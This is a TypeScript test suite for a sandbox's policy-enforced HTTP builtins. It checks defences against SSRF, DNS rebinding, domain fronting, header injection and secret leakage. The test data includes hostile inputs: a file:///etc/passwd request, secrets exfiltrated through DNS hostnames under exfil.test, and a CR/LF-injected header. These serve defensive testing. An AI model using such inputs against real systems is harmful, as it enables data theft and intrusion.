import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { AegisError } from "../../../src/errors.js";
import { type ConfirmRequest, type HostValue, isSealedRef } from "../../../src/host/builtin-types.js";
import { createNetBuiltins } from "../../../src/host/builtins/net.js";
import { PinnedHttpClient } from "../../../src/host/net/pinned-client.js";
import { MIN_REDACTED_LENGTH, SecretRedactor } from "../../../src/host/redact.js";
import { type Loopback, makeCert, startHttp, startHttps, tableResolver } from "./loopback.js";
import { makeRun, type PolicyDir, policyFromToml, type TestRun } from "./run-context.js";

const SECRET = "sk-Live-SECRET-4242";

async function rejection(p: Promise<unknown>): Promise<AegisError> {
  const e = await p.then(
    () => assert.fail("expected a rejection"),
    (x: unknown) => x,
  );
  assert.ok(e instanceof AegisError, String(e));
  return e;
}

describe("net builtins under a real policy", () => {
  let api: Loopback; // 127.0.0.1: allowed
  let internal: Loopback; // 127.0.0.2: denied by deny_ips
  let pd: PolicyDir;
  let client: PinnedHttpClient;
  let dns: ReturnType<typeof tableResolver>;
  let net: ReturnType<typeof createNetBuiltins>;

  before(async () => {
    api = await startHttp("127.0.0.1", (req, res, body) => {
      if (req.url === "/redirect") {
        res.writeHead(302, { location: `http://127.0.0.2:${internal.port}/admin` });
        res.end();
      } else if (req.url === "/big") {
        res.end("x".repeat(4096));
      } else {
        res.setHeader("x-echo-auth", String(req.headers.authorization ?? ""));
        res.end(`hello ${req.method} ${body}`);
      }
    });
    internal = await startHttp("127.0.0.2");
    pd = await policyFromToml(`
[network]
http_get_allow   = ["api.test", "evil.test", "mixed.test", "rebind.test", "nx.test", "127.0.0.2"]
http_post_allow  = ["api.test"]
local_only_hosts = ["vault.test"]
deny_ips         = ["127.0.0.2"]
allow_ports      = [${api.port}, ${internal.port}]
max_response_bytes = 1024
`);
  });
  after(async () => {
    await api.close();
    await internal.close();
    pd.cleanup();
  });

  const fresh = (table: Parameters<typeof tableResolver>[0] = {}) => {
    dns = tableResolver({
      "api.test": ["127.0.0.1"],
      "vault.test": ["127.0.0.1"],
      "evil.test": ["127.0.0.2"],
      "mixed.test": ["127.0.0.1", "127.0.0.2"],
      ...table,
    });
    client = new PinnedHttpClient({ resolver: dns.resolver });
    net = createNetBuiltins({ client });
    return makeRun(pd.policy);
  };
  const call = (name: string, args: HostValue[], run: ReturnType<typeof fresh>) => net[name]!(args, run.ctx);

  it("returns status, headers and body for an allowed GET", async () => {
    const run = fresh();
    const r = (await call("net.httpGet", [`http://api.test:${api.port}/x`], run)) as Record<
      string,
      HostValue
    >;
    assert.equal(r.status, 200);
    assert.equal(r.body, "hello GET ");
    assert.equal((r.headers as Record<string, string>)["content-type"], undefined);
    assert.deepEqual(
      run.audit.map((a) => [a.cap, a.decision, a.status]),
      [
        ["net.http_get", "allow", "allowed"],
        ["net.http_get", "allow", "allowed"],
      ],
    );
    assert.deepEqual(run.audit[0]?.detail?.resolvedIps, ["127.0.0.1"]);
    await client.close();
  });

  it("refuses a name that resolves to a denied IP (deny_ips), audited, nothing dialled", async () => {
    const run = fresh();
    const e = await rejection(call("net.httpGet", [`http://evil.test:${internal.port}/`], run));
    assert.equal(e.kind, "policy_violation");
    assert.match(e.message, /127\.0\.0\.2.*network\.deny_ips/);
    assert.equal(run.audit.at(-1)?.status, "denied");
    assert.equal(internal.connections, 0);
    await client.close();
  });

  it("refuses a name with one good and one denied address", async () => {
    const run = fresh();
    const n = api.requests.length;
    const e = await rejection(call("net.httpGet", [`http://mixed.test:${api.port}/`], run));
    assert.equal(e.kind, "policy_violation");
    assert.equal(api.requests.length, n);
    assert.equal(internal.connections, 0);
    await client.close();
  });

  it("refuses an IP literal in deny_ips even when the host allow list names it", async () => {
    const run = fresh();
    const e = await rejection(call("net.httpGet", [`http://127.0.0.2:${internal.port}/`], run));
    assert.equal(e.kind, "policy_violation");
    assert.deepEqual(dns.calls, []);
    assert.equal(internal.connections, 0);
    await client.close();
  });

  it("stops DNS rebinding between the check and the connection", async () => {
    const run = fresh({ "rebind.test": (n: number) => (n === 1 ? ["127.0.0.1"] : ["127.0.0.2"]) });
    const r = (await call("net.httpGet", [`http://rebind.test:${api.port}/`], run)) as Record<
      string,
      HostValue
    >;
    assert.equal(r.status, 200);
    assert.equal(dns.calls.filter((c) => c === "rebind.test").length, 1);
    const e = await rejection(call("net.httpGet", [`http://rebind.test:${api.port}/`], run));
    assert.equal(e.kind, "policy_violation");
    assert.equal(internal.connections, 0);
    await client.close();
  });

  it("never resolves a denied name (a DNS query would itself leak data)", async () => {
    const run = fresh({ "c2VjcmV0.exfil.test": ["127.0.0.1"] });
    const e = await rejection(call("net.httpGet", [`http://c2VjcmV0.exfil.test:${api.port}/`], run));
    assert.equal(e.kind, "policy_violation");
    assert.deepEqual(dns.calls, []);
    assert.equal(run.audit.at(-1)?.status, "denied");
    await client.close();
  });

  it("refuses file:, userinfo and unlisted ports without DNS or connection", async () => {
    const run = fresh();
    for (const url of [
      "file:///etc/passwd",
      `http://api.test:${api.port}@evil.test/`,
      `http://user@api.test:${api.port}/`,
      "http://api.test:1/",
    ]) {
      const e = await rejection(call("net.httpGet", [url], run));
      assert.equal(e.kind, "policy_violation", url);
    }
    assert.deepEqual(dns.calls, []);
    await client.close();
  });

  it("returns a redirect to a denied address as a 3xx without following it", async () => {
    const run = fresh();
    const r = (await call("net.httpGet", [`http://api.test:${api.port}/redirect`], run)) as Record<
      string,
      HostValue
    >;
    assert.equal(r.status, 302);
    assert.equal((r.headers as Record<string, string>).location, `http://127.0.0.2:${internal.port}/admin`);
    assert.equal(internal.connections, 0);
    await client.close();
  });

  it("enforces network.max_response_bytes from the policy as runtime_limit", async () => {
    const run = fresh();
    const e = await rejection(call("net.httpGet", [`http://api.test:${api.port}/big`], run));
    assert.equal(e.kind, "runtime_limit");
    assert.equal(run.audit.at(-1)?.status, "errored");
    await client.close();
  });

  it("refuses to set the Host header (domain fronting)", async () => {
    const run = fresh();
    const e = await rejection(
      call("net.httpGet", [`http://api.test:${api.port}/`, { headers: { Host: "vault.test" } }], run),
    );
    assert.equal(e.kind, "policy_violation");
    await client.close();
  });

  describe("sealed values", () => {
    const cases: [string, (k: HostValue) => [string, HostValue[]]][] = [
      [
        "in a header",
        (k) => ["net.httpGet", [`http://api.test:${api.port}/`, { headers: { authorization: k } }]],
      ],
      ["in the body", (k) => ["net.httpPost", [`http://api.test:${api.port}/`, k]]],
    ];
    for (const [where, build] of cases) {
      it(`refuses a sealed value ${where} to a non-local-only host before connecting`, async () => {
        const run = fresh();
        const key = run.secret("API_KEY", SECRET);
        const connections = api.connections;
        const requests = api.requests.length;
        const [name, args] = build(key);
        const e = await rejection(call(name, args, run));
        assert.equal(e.kind, "policy_violation");
        assert.match(e.message, /sealed value cannot flow to api\.test/);
        assert.equal(api.requests.length, requests, "the server saw no request");
        assert.equal(api.connections, connections, "no connection was made");
        assert.deepEqual(dns.calls, [], "the host was not even resolved");
        assert.equal(run.audit.at(-1)?.status, "denied");
        assert.ok(!`${e.message}${run.visible()}`.includes(SECRET));
        await client.close();
      });
    }

    it("refuses a sealed URL (secret in the query) to a non-local-only host, never naming or resolving it", async () => {
      const run = fresh();
      const url = run.ctx.sealed.seal("API_KEY", `http://api.test:${api.port}/?key=${SECRET}`);
      const requests = api.requests.length;
      const e = await rejection(call("net.httpGet", [url], run));
      assert.equal(e.kind, "policy_violation");
      assert.match(e.message, /sealed value cannot flow/);
      assert.equal(api.requests.length, requests);
      assert.deepEqual(dns.calls, []);
      assert.equal(run.ctx.calls.at(-1)?.target, "[sealed API_KEY]");
      assert.ok(!`${e.message}${run.visible()}`.includes(SECRET));
      await client.close();
    });

    it("refuses a sealed URL whose host carries the secret without a DNS query or the host in any message", async () => {
      const run = fresh();
      // The URL parser lower-cases the host, so a redactor looking for the raw value
      // would miss it: the host must never be shown at all.
      const url = run.ctx.sealed.seal("API_KEY", `http://${SECRET}.exfil.test:${api.port}/`);
      const e = await rejection(call("net.httpGet", [url], run));
      assert.equal(e.kind, "policy_violation");
      assert.deepEqual(dns.calls, []);
      const seen = `${e.message}${run.visible()}`.toLowerCase();
      assert.ok(!seen.includes(SECRET.toLowerCase()), seen);
      await client.close();
    });

    it("lets a sealed header reach a local-only host and returns its response sealed", async () => {
      const run = fresh();
      const key = run.secret("API_KEY", SECRET);
      const r = (await call(
        "net.httpPost",
        [`http://vault.test:${api.port}/v1`, "q", { headers: { authorization: key } }],
        run,
      )) as Record<string, HostValue>;
      assert.equal(api.requests.at(-1)?.headers.authorization, SECRET, "the real bytes were sent");
      assert.equal(r.status, 200);
      assert.ok(isSealedRef(r.body));
      assert.equal(run.ctx.sealed.reveal(r.body), "hello POST q");
      const headers = r.headers as Record<string, HostValue>;
      assert.ok(isSealedRef(headers["x-echo-auth"]), "a header reflecting the secret is sealed too");
      assert.equal(run.ctx.redactor.redact("out: hello POST q"), "out: [REDACTED]");
      assert.equal(run.audit[0]?.decision, "local_only");
      assert.equal(run.ctx.localOnlyRead, true);
      assert.ok(!run.visible().includes(SECRET));
      await client.close();
    });

    it("sends a sealed URL to a local-only host with the real bytes, showing only its label", async () => {
      const run = fresh();
      const url = run.ctx.sealed.seal("API_KEY", `http://vault.test:${api.port}/v1?key=${SECRET}`);
      run.ctx.redactor.add(SECRET);
      const r = (await call("net.httpGet", [url], run)) as Record<string, HostValue>;
      assert.equal(api.requests.at(-1)?.url, `/v1?key=${SECRET}`);
      assert.ok(isSealedRef(r.body));
      assert.ok(run.audit.every((a) => a.target === "[sealed API_KEY]"));
      assert.ok(!run.visible().includes(SECRET));
      await client.close();
    });
  });

  it("audits a name that does not resolve as an errored attempt (io_error)", async () => {
    const run = fresh();
    const e = await rejection(call("net.httpGet", [`http://nx.test:${api.port}/`], run));
    assert.equal(e.kind, "io_error");
    assert.match(e.message, /could not resolve nx\.test \(ENOTFOUND\)/);
    assert.equal(run.audit.at(-1)?.status, "errored");
    await client.close();
  });

  it("refuses a header value that would split the request (CR/LF) before sending", async () => {
    const run = fresh();
    const requests = api.requests.length;
    const e = await rejection(
      call(
        "net.httpGet",
        [`http://api.test:${api.port}/`, { headers: { "x-a": "1\r\nX-Injected: 1" } }],
        run,
      ),
    );
    assert.equal(e.kind, "script_error");
    assert.equal(api.requests.length, requests);
    await client.close();
  });

  it("refuses outbound requests after a local-only read when no_output_after_local_only_read is set", async () => {
    const strict = await policyFromToml(`
[network]
http_get_allow   = ["api.test"]
local_only_hosts = ["vault.test"]
allow_ports      = [${api.port}]
[runtime]
no_output_after_local_only_read = true
`);
    try {
      fresh();
      const run = makeRun(strict.policy);
      run.ctx.localOnlyRead = true;
      const requests = api.requests.length;
      const e = await rejection(net["net.httpGet"]!([`http://api.test:${api.port}/`], run.ctx));
      assert.equal(e.kind, "policy_violation");
      assert.match(e.message, /no_output_after_local_only_read/);
      assert.equal(api.requests.length, requests);
      const r = (await net["net.httpGet"]!([`http://vault.test:${api.port}/`], run.ctx)) as Record<
        string,
        HostValue
      >;
      assert.ok(isSealedRef(r.body), "a local-only host is still reachable: its answer stays sealed");
    } finally {
      strict.cleanup();
      await client.close();
    }
  });

  it("does not start a request after the run has ended", async () => {
    const run = fresh();
    run.controller.abort();
    const requests = api.requests.length;
    const e = await rejection(call("net.httpGet", [`http://api.test:${api.port}/`], run));
    assert.equal(e.kind, "runtime_limit");
    assert.equal(api.requests.length, requests);
    await client.close();
  });

  it("rejects malformed arguments with a script_error that says what was expected", async () => {
    const run = fresh();
    const e1 = await rejection(call("net.httpGet", [42], run));
    assert.equal(e1.kind, "script_error");
    assert.match(e1.message, /URL must be a string, got number/);
    const e2 = await rejection(call("net.httpGet", [`http://api.test:${api.port}/`, { timeout: 5 }], run));
    assert.match(e2.message, /unknown option "timeout"/);
    await client.close();
  });
});

describe("a sealed URL whose host carries the secret under a wildcard local-only entry", () => {
  // Mixed case, so the URL parser's lower-cased host is not the spelling the redactor knows.
  const LONG = "sk-Proj-AbCdEfGhIjKlMnOp1234";
  // Shorter than MIN_REDACTED_LENGTH, host and all: only not building the message keeps it out.
  const SHORT = "aB3";
  let api: Loopback; // 127.0.0.1, plain HTTP
  let tls: Loopback; // 127.0.0.1, a certificate for vault.test only
  let internal: Loopback; // 127.0.0.2: denied by deny_ips
  let pd: PolicyDir;
  let approval: PolicyDir;
  let client: PinnedHttpClient;
  let net: ReturnType<typeof createNetBuiltins>;
  const cert = makeCert("vault.test");

  before(async () => {
    api = await startHttp("127.0.0.1");
    internal = await startHttp("127.0.0.2");
    if (cert) tls = await startHttps(cert);
    const network = `
[network]
local_only_hosts = ["vault.test", "*.invalid", "*.lan"]
deny_ips         = ["127.0.0.2"]
allow_ports      = [${api.port}, ${internal.port}, ${tls?.port ?? api.port}]
`;
    pd = await policyFromToml(network);
    approval = await policyFromToml(`requires_approval = ["net.http_get"]\n${network}`);
  });
  after(async () => {
    await api.close();
    await internal.close();
    await tls?.close();
    pd.cleanup();
    approval.cleanup();
  });

  /** A run that has read `secret` as a local-only API_KEY, with `table` as the DNS. */
  const start = (secret: string, table: Record<string, string[]> = {}, policy = pd.policy) => {
    client = new PinnedHttpClient({
      resolver: tableResolver(table).resolver,
      ...(cert ? { tls: { ca: cert.cert } } : {}),
    });
    net = createNetBuiltins({ client });
    const run = makeRun(policy);
    if (secret.length >= MIN_REDACTED_LENGTH) {
      run.secret("API_KEY", secret);
    } else {
      // The real redactor, which skips a value this short (and the host made of it).
      run.ctx.redactor = new SecretRedactor();
      run.ctx.redactor.add(secret);
    }
    return run;
  };
  const get = (run: TestRun, url: string) =>
    net["net.httpGet"]!([run.ctx.sealed.seal("API_KEY", url)], run.ctx);

  /** Fails when the secret shows, in its own spelling or lower-cased, anywhere the caller looks. */
  const assertHidden = (secret: string, run: TestRun, ...more: string[]) => {
    const seen = [...more, run.visible(), JSON.stringify(run.audit)].join("\n");
    assert.ok(!seen.includes(secret), seen);
    assert.ok(!seen.includes(secret.toLowerCase()), seen);
    assert.ok(
      run.ctx.calls.every((c) => c.target === "[sealed API_KEY]"),
      JSON.stringify(run.ctx.calls),
    );
  };

  it("never shows the (lower-cased) host: resolution failure", async () => {
    const run = start(LONG, { "vault.test": ["127.0.0.1"] });
    const e = await rejection(get(run, `http://${LONG}.invalid:${api.port}/`));
    assert.equal(e.kind, "io_error");
    assert.match(e.message, /\[sealed API_KEY\]: could not resolve the sealed URL's host \(ENOTFOUND\)/);
    assert.equal(run.audit.at(-1)?.status, "errored");
    assertHidden(LONG, run, e.message);
    // The host is not given to the redactor: padded around a short secret, it would let the
    // script learn the secret by testing its own guesses against the marker.
    const host = `${LONG.toLowerCase()}.invalid`;
    assert.equal(run.ctx.redactor.redact(`x${host}`), `x${host}`);

    // A host the policy spells out is no secret: not redacted, and still served.
    const r = (await get(run, `http://vault.test:${api.port}/v1?key=${LONG}`)) as Record<string, HostValue>;
    assert.equal(api.requests.at(-1)?.url, `/v1?key=${LONG}`);
    assert.ok(isSealedRef(r.body));
    assert.equal(r.body.label, "vault.test");
    assert.equal(run.ctx.redactor.redact(`vault.test:${api.port}`), `vault.test:${api.port}`);
    assertHidden(LONG, run);
    await client.close();
  });

  it("never shows the (lower-cased) host: resolves to a denied IP", async () => {
    const run = start(LONG, { [`${LONG.toLowerCase()}.invalid`]: ["127.0.0.2"] });
    const e = await rejection(get(run, `http://${LONG}.invalid:${internal.port}/`));
    assert.equal(e.kind, "policy_violation");
    assert.match(e.message, /\[sealed API_KEY\] denied by network\.deny_ips "127\.0\.0\.2"/);
    assert.equal(run.audit.at(-1)?.status, "denied");
    assert.equal(internal.connections, 0);
    assertHidden(LONG, run, e.message);
    await client.close();
  });

  it("never shows the (lower-cased) host: TLS/transport error", { skip: !cert }, async () => {
    const run = start(LONG, { [`${LONG.toLowerCase()}.invalid`]: ["127.0.0.1"] });
    const e = await rejection(get(run, `https://${LONG}.invalid:${tls.port}/`));
    assert.equal(e.kind, "io_error");
    // The certificate names vault.test; TLS's own message would name the host asked for.
    assert.match(e.message, /the request to the sealed URL's host failed \(ERR_TLS_CERT_ALTNAME_INVALID\)/);
    assertHidden(LONG, run, e.message);
    await client.close();
  });

  it("never shows the (lower-cased) host: the label of its sealed response", async () => {
    const run = start(LONG, { [`${LONG.toLowerCase()}.invalid`]: ["127.0.0.1"] });
    const r = (await get(run, `http://${LONG}.invalid:${api.port}/`)) as Record<string, HostValue>;
    assert.equal(r.status, 200);
    assert.ok(isSealedRef(r.body));
    assert.equal(run.ctx.sealed.reveal(r.body), "hello");
    const headers = r.headers as Record<string, HostValue>;
    const labels = [r.body, ...Object.values(headers)].map((v) => (isSealedRef(v) ? v.label : String(v)));
    assertHidden(LONG, run, ...labels);
    await client.close();
  });

  it("never shows the (lower-cased) host: confirmation prompt and confirm_denied", async () => {
    const run = start(LONG, { [`${LONG.toLowerCase()}.invalid`]: ["127.0.0.1"] }, approval.policy);
    const prompts: ConfirmRequest[] = [];
    run.ctx.confirm = async (req) => {
      prompts.push(req);
      return false;
    };
    const requests = api.requests.length;
    const e = await rejection(get(run, `http://${LONG}.invalid:${api.port}/`));
    assert.equal(e.kind, "confirm_denied");
    assert.equal(prompts.length, 1);
    assert.match(prompts[0]!.reason, /requires_approval "net\.http_get"/);
    assert.equal(api.requests.length, requests);
    assertHidden(LONG, run, e.message, JSON.stringify(prompts));
    await client.close();
  });

  it("never shows a short secret's host, which the redactor skips by design", async () => {
    const host = `${SHORT.toLowerCase()}.lan`;
    assert.ok(host.length < MIN_REDACTED_LENGTH);
    const seen: string[] = [];
    const attempts: [Record<string, string[]>, string, string][] = [
      [{}, `http://${SHORT}.lan:${api.port}/`, "io_error"],
      [{ [host]: ["127.0.0.2"] }, `http://${SHORT}.lan:${internal.port}/`, "policy_violation"],
      ...(cert
        ? [
            [{ [host]: ["127.0.0.1"] }, `https://${SHORT}.lan:${tls.port}/`, "io_error"] as [
              Record<string, string[]>,
              string,
              string,
            ],
          ]
        : []),
    ];
    for (const [table, url, kind] of attempts) {
      const run = start(SHORT, table);
      const e = await rejection(get(run, url));
      assert.equal(e.kind, kind, e.message);
      // The audit writer and the guest bridge apply the run's redactor; here it does nothing.
      seen.push(run.ctx.redactor.redact(`${e.message}\n${run.visible()}`));
      await client.close();
    }
    const confirmRun = start(SHORT, { [host]: ["127.0.0.1"] }, approval.policy);
    const prompts: ConfirmRequest[] = [];
    confirmRun.ctx.confirm = async (req) => {
      prompts.push(req);
      return false;
    };
    const e = await rejection(get(confirmRun, `http://${SHORT}.lan:${api.port}/`));
    assert.equal(e.kind, "confirm_denied");
    seen.push(e.message, JSON.stringify(prompts), confirmRun.visible());
    await client.close();
    const all = seen.join("\n");
    assert.ok(!all.includes(host), all);
    assert.ok(!all.includes(`${SHORT}.lan`), all);
  });
});
